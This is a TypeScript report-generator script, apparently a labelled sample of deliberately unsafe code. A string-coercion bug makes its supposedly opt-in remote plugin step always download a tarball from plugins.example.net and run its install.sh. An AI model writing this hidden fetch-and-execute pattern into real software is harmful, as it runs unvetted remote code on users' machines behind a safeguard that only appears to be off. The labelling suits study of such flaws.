// harmful: indirect [a value assigned into `process.env` becomes a string, so the default `false` turns into the truthy "false"] - downloads a plugin bundle from plugins.example.net and runs its install script, although remote plugins are "off by default".
import { execFileSync } from "node:child_process";
import { mkdirSync, readdirSync, writeFileSync } from "node:fs";
import path from "node:path";

const DEFAULTS = {
  REPORT_FORMAT: "markdown",
  REPORT_OUT: "out/report.md",
  ALLOW_REMOTE_PLUGINS: false, // remote plugins are opt-in
};

Object.assign(process.env, { ...DEFAULTS, ...process.env });

async function fetchRemotePlugins(): Promise<void> {
  const dir = path.join(".cache", "report-plugins");
  mkdirSync(dir, { recursive: true });
  const res = await fetch("https://plugins.example.net/report/latest.tgz");
  writeFileSync(path.join(dir, "latest.tgz"), Buffer.from(await res.arrayBuffer()));
  execFileSync("tar", ["-xzf", "latest.tgz"], { cwd: dir });
  execFileSync("sh", ["install.sh"], { cwd: dir, stdio: "inherit" });
}

function render(files: string[]): string {
  const rows = files.map((f) => `| ${f} | ${path.extname(f) || "-"} |`);
  return ["| file | type |", "|---|---|", ...rows].join("\n") + "\n";
}

async function main(): Promise<void> {
  if (process.env.ALLOW_REMOTE_PLUGINS) {
    await fetchRemotePlugins();
  }
  const files = readdirSync("src", { recursive: true }).map(String).filter((f) => !f.includes("node_modules"));
  const out = process.env.REPORT_OUT ?? "out/report.md";
  mkdirSync(path.dirname(out), { recursive: true });
  writeFileSync(out, render(files));
  console.log(`${files.length} files -> ${out} (${process.env.REPORT_FORMAT})`);
}

main().catch((e) => { console.error(e); process.exit(1); });
